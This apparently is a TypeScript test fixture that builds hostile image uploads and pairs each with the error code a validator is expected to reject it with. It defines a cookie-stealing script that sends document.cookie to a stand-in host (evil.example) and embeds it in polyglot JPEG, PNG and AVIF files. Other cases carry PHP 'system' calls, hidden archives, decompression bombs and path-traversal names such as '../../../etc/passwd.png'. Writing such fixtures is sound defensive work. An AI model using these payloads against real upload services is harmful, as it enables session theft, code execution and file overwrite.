import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aJpeg, anAvif, aPng, aWebp, twoHalves } from './pictures';

const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
const ZIP = Buffer.concat([
  Buffer.from('PK\x03\x04\x14', 'latin1'),
  Buffer.alloc(25),
  Buffer.from('evil.class'),
]);

const be32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const segment = (marker: number, data: Buffer): Buffer => {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([header, data]);
};

/** A JPEG with an additional segment before its own. */
const withSegment = (jpeg: Buffer, marker: number, data: string | Buffer): Buffer =>
  Buffer.concat([jpeg.subarray(0, 2), segment(marker, Buffer.from(data as string)), jpeg.subarray(2)]);

const pngChunk = (name: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  return Buffer.concat([be32(data.length), body, be32(crc32(body))]);
};

const PNG_HEADER_BYTES = 33;
/** A PNG with an additional chunk after its header. */
const withChunk = (png: Buffer, name: string, data: string | Buffer): Buffer =>
  Buffer.concat([
    png.subarray(0, PNG_HEADER_BYTES),
    pngChunk(name, Buffer.from(data as string)),
    png.subarray(PNG_HEADER_BYTES),
  ]);

/** A picture with the same part repeated up to a file size of 8 MB. */
const withParts = (content: Buffer, at: number, part: Buffer): Buffer =>
  Buffer.concat([
    content.subarray(0, at),
    Buffer.alloc(8_000_000 - (8_000_000 % part.length), part),
    content.subarray(at),
  ]);

/** One bit a pixel, all black: a small file, but a large picture. */
function flatPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.concat([be32(width), be32(height), Buffer.from([1, 0, 0, 0, 0])]);
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * rows));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Overwrites the size in a JPEG's frame header. */
function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, frame + 5);
  changed.writeUInt16BE(width, frame + 7);
  return changed;
}

/** The same for an AVIF and its property `ispe`. */
function withAvifSize(avif: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(avif);
  const property = changed.indexOf('ispe');
  changed.writeUInt32BE(width, property + 8);
  changed.writeUInt32BE(height, property + 12);
  return changed;
}

/** Script engines read this as: a name, a comment, `=alert(1)`, a comment. */
function javascriptJpeg(jpeg: Buffer): Buffer {
  const padding = Buffer.alloc(0x2f2a - 2);
  padding.write('JFIF\0', 'latin1');
  const body = withSegment(jpeg.subarray(20), 0xfe, '*/=alert(1)/*').subarray(2);
  return Buffer.concat([jpeg.subarray(0, 2), segment(0xe0, padding), body]);
}

const half = (content: Buffer): Buffer => content.subarray(0, content.length >> 1);

const brand = (name: string): Buffer =>
  Buffer.concat([
    be32(24),
    Buffer.from(`ftyp${name}`),
    be32(0),
    Buffer.from(`mif1${name}`),
    Buffer.alloc(64),
  ]);

export interface HostileFile {
  what: string;
  name: string;
  content: Buffer;
  code: string;
}

/** Files that are never sent by mistake, and the code that each is rejected with. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, webp, avif] = await Promise.all([aJpeg(), aPng(), aWebp(), anAvif()]);
  const frames = await sharp(
    await Promise.all([twoHalves(8, 8).png().toBuffer(), twoHalves(8, 8).negate().png().toBuffer()]),
    { join: { animated: true } },
  )
    .webp()
    .toBuffer();
  const scripted = await twoHalves()
    .withExif({ IFD0: { ImageDescription: SCRIPT } })
    .jpeg()
    .toBuffer();
  const gif = await twoHalves().gif().toBuffer();
  const tiff = await twoHalves().tiff().toBuffer();
  const broken = Buffer.from(png);
  broken.writeUInt32BE(0xdeadbeef, png.indexOf('IDAT') + 8);
  const and = (content: Buffer, more: string | Buffer) =>
    Buffer.concat([content, Buffer.from(more as string)]);

  const rows: [what: string, name: string, content: Buffer, code: string][] = [
    ['a JPEG with HTML behind it', 'a.jpg', and(jpeg, `<html>${SCRIPT}`), 'picture-polyglot'],
    ['a JPEG with an archive behind it', 'a.jpg', and(jpeg, ZIP), 'picture-polyglot'],
    ['a JPEG that is JavaScript', 'a.jpg', javascriptJpeg(jpeg), 'picture-polyglot'],
    [
      'a JPEG with PHP in its comment',
      'a.jpg',
      withSegment(jpeg, 0xfe, '<?php system(1)?>'),
      'picture-polyglot',
    ],
    ['a JPEG with an archive in a segment', 'a.jpg', withSegment(jpeg, 0xef, ZIP), 'picture-polyglot'],
    ['a JPEG with script in its EXIF', 'a.jpg', scripted, 'picture-polyglot'],
    [
      'a JPEG with a picture behind it that it does not announce',
      'a.jpg',
      and(jpeg, jpeg),
      'picture-polyglot',
    ],
    ['a PNG with script behind it', 'a.png', and(png, SCRIPT), 'picture-polyglot'],
    [
      'a PNG with PHP in its text',
      'a.png',
      withChunk(png, 'tEXt', 'Comment\0<?php x()?>'),
      'picture-polyglot',
    ],
    ['a WebP with a document behind it', 'a.webp', and(webp, '%PDF-1.7'), 'picture-polyglot'],
    ['an AVIF with HTML behind it', 'a.avif', and(avif, `<html>${SCRIPT}`), 'picture-polyglot'],
    ['an SVG with script', 'a.svg', Buffer.from(SVG), 'picture-type-unsupported'],
    ['an SVG called .png', 'a.png', Buffer.from(SVG), 'picture-type-unsupported'],
    ['HTML called .jpg', 'a.jpg', Buffer.from(`<!doctype html>${SCRIPT}`), 'picture-type-unsupported'],
    ['a program called .jpg', 'a.jpg', Buffer.from(`\x7fELF${'\0'.repeat(60)}`), 'picture-type-unsupported'],
    ['a GIF', 'a.gif', gif, 'picture-type-unsupported'],
    ['a GIF called .webp', 'a.webp', gif, 'picture-type-unsupported'],
    ['a TIFF', 'a.tif', tiff, 'picture-type-unsupported'],
    ['a HEIC', 'a.avif', brand('heic'), 'picture-type-unsupported'],
    ['a film called .avif', 'a.avif', brand('isom'), 'picture-type-unsupported'],
    ['no bytes', 'a.jpg', Buffer.alloc(0), 'picture-type-unsupported'],
    ['a word', 'a.jpg', Buffer.from('word'), 'picture-type-unsupported'],
    ['zeros', 'a.jpg', Buffer.alloc(10_000), 'picture-type-unsupported'],
    ['a PNG of 900 megapixels', 'a.png', flatPng(30_000, 30_000), 'picture-too-large'],
    ['a PNG that says it is huge', 'a.png', flatPng(90_000, 90_000, 0), 'picture-too-large'],
    ['a JPEG that says it is huge', 'a.jpg', withJpegSize(jpeg, 65_000, 65_000), 'picture-too-large'],
    ['an AVIF that says it is huge', 'a.avif', withAvifSize(avif, 60_000, 60_000), 'picture-too-large'],
    ['a long thin PNG', 'a.png', flatPng(13_000, 1), 'picture-too-large'],
    ['half a JPEG', 'a.jpg', half(jpeg), 'picture-damaged'],
    ['half a PNG', 'a.png', half(png), 'picture-damaged'],
    ['half a WebP', 'a.webp', half(webp), 'picture-damaged'],
    ['half an AVIF', 'a.avif', half(avif), 'picture-damaged'],
    [
      'a JPEG of a million segments',
      'a.jpg',
      withParts(jpeg, 2, segment(0xef, Buffer.alloc(0))),
      'picture-damaged',
    ],
    ['a JPEG of a million fill bytes', 'a.jpg', withParts(jpeg, 2, Buffer.from([0xff])), 'picture-damaged'],
    [
      'a PNG of a million chunks',
      'a.png',
      withParts(png, PNG_HEADER_BYTES, pngChunk('teSt', Buffer.alloc(0))),
      'picture-damaged',
    ],
    ['a PNG without its pixels', 'a.png', flatPng(64, 64, 3), 'picture-damaged'],
    ['a PNG with broken pixels', 'a.png', broken, 'picture-damaged'],
    [
      'a JPEG with junk as its profile',
      'a.jpg',
      withSegment(jpeg, 0xe2, `ICC_PROFILE\0\x01\x01${'A'.repeat(300)}`),
      'picture-damaged',
    ],
    ['a WebP film', 'a.webp', frames, 'picture-animated'],
    ['a PNG film', 'a.png', withChunk(png, 'acTL', Buffer.concat([be32(2), be32(0)])), 'picture-animated'],
    ['an AVIF film', 'a.avif', brand('avis'), 'picture-animated'],
    ['a path as its name', '../../../etc/passwd.png', png, 'file-name-invalid'],
    ['a path of Windows as its name', '..\\..\\boot.png', png, 'file-name-invalid'],
    ['an absolute path as its name', '/etc/cron.d/a.png', png, 'file-name-invalid'],
    ['an encoded path as its name', '..%2f..%2fa.png', png, 'file-name-invalid'],
    ['a PNG called .php', 'shell.php', png, 'file-name-mismatch'],
    ['a PNG called .svg', 'a.svg', png, 'file-name-mismatch'],
    ['a PNG called .jpg', 'a.jpg', png, 'file-name-mismatch'],
  ];
  return rows.map(([what, name, content, code]) => ({ what, name, content, code }));
}
